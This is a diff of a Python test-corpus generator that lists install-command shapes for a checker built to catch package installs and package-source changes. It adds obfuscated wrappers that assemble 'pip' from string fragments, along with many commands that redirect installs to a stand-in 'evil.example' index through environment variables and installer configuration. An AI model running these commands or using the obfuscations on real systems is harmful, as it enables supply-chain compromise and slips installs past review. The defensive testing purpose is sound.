@@ -55,6 +55,15 @@ INSTALLERS: tuple[str, ...] = (
     "conda run -n env pip install {options}{name}",
 )
 """Installers, with a place for options and for the name."""
+MORE_INSTALLERS: tuple[str, ...] = (
+    "python3 -m pip.__main__ install {options}{name}",
+    "python -m pip._internal.cli.main install {options}{name}",
+    "pip-run {options}{name} -- -c pass",
+    "mim install {options}{name}",
+    "fades -d {name} script.py",
+    "pixi exec {name}",
+)
+"""Installers recognised later (ATTACK3 C2): their shapes come after the others (the files' sample stays the same)."""
 
 OPTIONS: tuple[str, ...] = ("", "-U ", "--no-cache-dir ", "-q --upgrade ", "--index-url https://pypi.org/simple ")
 
@@ -188,6 +197,12 @@ UNKNOWN: tuple[str, ...] = (
     "uv add ${PKG}",
     "pip install fake${SUFFIX}",
 )
+MORE_WRAPPERS: tuple[str, ...] = ("python3 -c \"__import__('subprocess').run({pyconcat})\"",)
+"""Later wrappers (ATTACK3 C2): Python code that spells the installer apart."""
+MORE_UNKNOWN: tuple[str, ...] = (
+    "python3 -c \"import subprocess; subprocess.run([''.join(['p', 'ip']), 'install', name])\"",
+    "python3 -c \"__import__('os').system(' '.join(['pip', 'install', name]))\"",
+)
 """Commands whose package only running them would name: each must be asked about, never passed."""
 
 FED_REQUIREMENTS: tuple[str, ...] = (
@@ -211,6 +226,29 @@ substitution, a file written first); ``{pip}`` is an installer that reads requir
 known only at run time (asked about)."""
 FED_INSTALLERS = ("pip install", "python -m pip install", "uv pip install", "pip download")
 
+EVIL_INDEX = "https://evil.example/simple"
+SOURCE_SETTINGS: tuple[str, ...] = (
+    "PIP_INDEX_URL={url} {install}", "PIP_EXTRA_INDEX_URL={url} {install}", "UV_INDEX_URL={url} {install}",
+    "UV_DEFAULT_INDEX={url} {install}", "UV_INDEX={url} {install}", "PIP_CONFIG_FILE=/tmp/evil.conf {install}",
+    "export PIP_INDEX_URL={url}; {install}", "export UV_EXTRA_INDEX_URL='{url}' && {install}",
+    "PIP_INDEX_URL={url}\nexport PIP_INDEX_URL\n{install}", "env PIP_INDEX_URL={url} {install}",
+    "sudo PIP_INDEX_URL={url} {install}", "bash -c 'PIP_INDEX_URL={url} {install}'",
+    "pip config set global.index-url {url} && {install}",
+    "python -m pip config set global.extra-index-url {url}; {install}",
+    "poetry source add evil {url} && {install}", "poetry config repositories.evil {url}; {install}",
+    "pdm config pypi.url {url} && {install}", "conda config --add channels evil-channel && {install}",
+)
+"""Ways to change the source of an install without naming a package: the environment, persistent installer
+configuration (ATTACK3 C1). ``{install}`` is one of :data:`SOURCE_INSTALLS`."""
+SOURCE_INSTALLS = ("pip install requests", "python3 -m pip install -r requirements.txt", "uv pip install requests",
+                   "uv sync", "uv add requests", "poetry install", "pip install -e .")
+SOURCE_OPTIONS: tuple[str, ...] = (
+    "uv sync --index {url}", "uv lock --index-url {url}", "uv run --default-index {url} pytest",
+    "pip install -i {url} -r requirements.txt", "pip install --extra-index-url {url} -e .",
+    "uv pip install --index-url={url} -r requirements.txt",
+)
+"""Source options of commands that name no package of their own: every package they install comes from there."""
+
 
 @dataclass(frozen=True)
 class Shape:
@@ -221,32 +259,51 @@ class Shape:
     text: str
     unknown: bool = False
     """True when the package is known only at run time (the check must ask or review)."""
+    source: bool = False
+    """True when the shape changes the package source (the check must review the setting)."""
 
 
 def commands() -> Iterator[Shape]:
-    """Command shapes: every installer x wrapper, every name spelling, every installer spelling, unknowns."""
-    for installer, wrapper in itertools.product(INSTALLERS, WRAPPERS):
-        command = installer.format(options="", name=FAKE)
-        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
-    for installer, options in itertools.product(INSTALLERS, OPTIONS):
-        if "{options}" in installer:
-            yield Shape("command", installer.format(options=options, name=FAKE))
-    for installer, disguise in itertools.product(INSTALLERS, DISGUISES):
-        yield Shape("command", installer.format(options="", name=disguise(FAKE)))
-    for installer, disguise in itertools.product(INSTALLERS, PROGRAM_DISGUISES):
-        command = installer.format(options="", name=FAKE)
-        disguised = disguise(command)
-        if disguised != command:
-            yield Shape("command", disguised)
+    """Command shapes: every installer x wrapper, every name spelling, every installer spelling, unknowns; the
+    shapes added later come after the others, so that the files' sample of the earlier ones stays the same."""
+    yield from _installer_shapes(INSTALLERS, WRAPPERS)
     for text in UNKNOWN:
         yield Shape("command", text, unknown="$" in text or "xargs" in text or "`" in text)
     for fed, pip in itertools.product(FED_REQUIREMENTS, FED_INSTALLERS):
         yield Shape("command", fed.format(pip=pip, name=FAKE), unknown="{name}" not in fed)
+    for setting, install in itertools.product(SOURCE_SETTINGS, SOURCE_INSTALLS):
+        yield Shape("command", setting.format(url=EVIL_INDEX, install=install), source=True)
+    for option in SOURCE_OPTIONS:
+        yield Shape("command", option.format(url=EVIL_INDEX), source=True)
+    yield from _installer_shapes(MORE_INSTALLERS, WRAPPERS + MORE_WRAPPERS)
+    for installer, wrapper in itertools.product(INSTALLERS, MORE_WRAPPERS):
+        command = installer.format(options="", name=FAKE)
+        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
+    for text in MORE_UNKNOWN:
+        yield Shape("command", text, unknown=True)
+
+
+def _installer_shapes(installers: tuple[str, ...], wrappers: tuple[str, ...]) -> Iterator[Shape]:
+    for installer, wrapper in itertools.product(installers, wrappers):
+        command = installer.format(options="", name=FAKE)
+        yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
+    for installer, options in itertools.product(installers, OPTIONS):
+        if "{options}" in installer:
+            yield Shape("command", installer.format(options=options, name=FAKE))
+    for installer, disguise in itertools.product(installers, DISGUISES):
+        yield Shape("command", installer.format(options="", name=disguise(FAKE)))
+    for installer, disguise in itertools.product(installers, PROGRAM_DISGUISES):
+        command = installer.format(options="", name=FAKE)
+        disguised = disguise(command)
+        if disguised != command:
+            yield Shape("command", disguised)
 
 
 def _python_forms(command: str) -> dict[str, str]:
     words = shlex.split(command)
+    concatenated = f"[{words[0][:1]!r}+{words[0][1:]!r}, " + ", ".join(repr(word) for word in words[1:]) + "]"
     return {"pycode": shlex.quote(f"import os; os.system({command!r})"), "pywords": repr(words),
+            "pyconcat": concatenated.replace('"', '\\"'),
             "pysubprocess": shlex.quote(f"import subprocess, sys; subprocess.check_call({words!r})")}
 
 
@@ -323,7 +380,7 @@ def files() -> Iterator[Shape]:
     )]
     for shape in sample:
         for kind, text in _files(shape.text):
-            yield Shape(kind, text, shape.unknown)
+            yield Shape(kind, text, shape.unknown, shape.source)
 
 
 DISK_BASE: dict[str, str] = {
@@ -442,6 +499,8 @@ if __name__ == "__main__":  # pragma: no cover - the before/after measurement of
             arguments = [argument for command in install_commands(shape.text) for argument in command.arguments]
         else:
             arguments = [item.argument for item in installed_names(shape.kind, shape.text)]
+        if shape.source:
+            return any(getattr(argument, "sets_source", False) for argument in arguments)
         return any(argument.name == FAKE or not getattr(argument, "determined", True) for argument in arguments)
 
     shapes = corpus()
